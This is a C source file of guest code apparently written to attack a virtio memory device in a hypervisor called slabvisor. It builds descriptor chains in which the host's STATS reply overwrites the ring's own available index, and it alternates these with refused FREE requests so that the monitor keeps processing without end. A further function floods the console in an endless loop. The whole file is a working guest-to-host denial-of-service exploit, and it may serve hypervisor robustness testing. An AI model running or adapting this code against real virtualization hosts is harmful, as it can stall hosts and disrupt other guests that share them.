/* SPDX-License-Identifier: BSD-2-Clause */
/* Work for the monitor that has no end by itself: it is for who pauses and ends the guest. */
#include "attack.h"
#include <linux/mm.h>
#include <linux/printk.h>
#include <slabvisor/platform.h>

#define HEAD_STATS  0
#define HEAD_FREE   4
#define LEAD        8 /* requests made available ahead */
#define RESP        ((u32)sizeof(struct virtio_kmem_resp))
#define COUNTER     2u /* bytes of the number of requests, as an index has */
#define AFTER_INDEX (RESP + COUNTER)

static struct virtio_kmem_req stats_req, free_req;
static u64 nowhere = ~0ull;

static u64 requests_so_far(void)
{
	raw_prepare(VIRTIO_KMEM_STATS, 0, 0);
	if (raw_request(0, RAW_REPLY_MAX))
		return 0;
	return raw_reply.payload[0] + 1;
}

/* A chain of STATS, whose reply puts the number of requests where the available index is. */
static void lay_out_stats(void)
{
	u64 reply = virt_to_phys(&raw_reply);

	stats_req = (struct virtio_kmem_req){
		.type = VIRTIO_KMEM_STATS,
		.node = VIRTIO_KMEM_NODE_ANY,
	};
	raw.desc[HEAD_STATS] = (struct raw_desc){virt_to_phys(&stats_req), sizeof(stats_req),
						 DESC_NEXT, HEAD_STATS + 1};
	raw.desc[HEAD_STATS + 1] =
		(struct raw_desc){reply, RESP, DESC_NEXT | DESC_WRITE, HEAD_STATS + 2};
	raw.desc[HEAD_STATS + 2] = (struct raw_desc){virt_to_phys((const void *)&raw.avail_idx),
						     COUNTER, DESC_NEXT | DESC_WRITE,
						     HEAD_STATS + 3};
	raw.desc[HEAD_STATS + 3] = (struct raw_desc){
		reply + AFTER_INDEX, (u32)RAW_REPLY_MAX - AFTER_INDEX, DESC_WRITE, 0};
}

/* A chain of FREE, which is refused, and counted by the host. */
static void lay_out_free(void)
{
	free_req = (struct virtio_kmem_req){
		.type = VIRTIO_KMEM_FREE,
		.node = VIRTIO_KMEM_NODE_ANY,
		.count = 1,
	};
	raw.desc[HEAD_FREE] = (struct raw_desc){virt_to_phys(&free_req), sizeof(free_req),
						DESC_NEXT, HEAD_FREE + 1};
	raw.desc[HEAD_FREE + 1] = (struct raw_desc){virt_to_phys(&nowhere), sizeof(nowhere),
						    DESC_NEXT, HEAD_FREE + 2};
	raw.desc[HEAD_FREE + 2] = reply_desc(DESC_WRITE, 0);
}

int feed(void)
{
	/* The index follows the number of requests, so its lead is what there were before. */
	if (!raw_start())
		return 1;
	while (requests_so_far() < LEAD)
		;
	if (requests_so_far() >= RAW_QUEUE || !raw_start())
		return 1;
	lay_out_stats();
	lay_out_free();
	for (unsigned int i = 0; i < RAW_QUEUE; i++)
		raw.avail[i] = i % 2 ? HEAD_FREE : HEAD_STATS;
	printk("feeding\n");
	console_flush();
	raw.avail_idx = 1;
	raw_write(REG_QUEUE_NOTIFY, 0);
	printk("the doorbell was answered\n");
	console_flush();
	return 1;
}

int shout(void)
{
	for (;;) {
		printk("a line of a guest that never stops, and never waits for its reader\n");
		console_flush();
	}
}
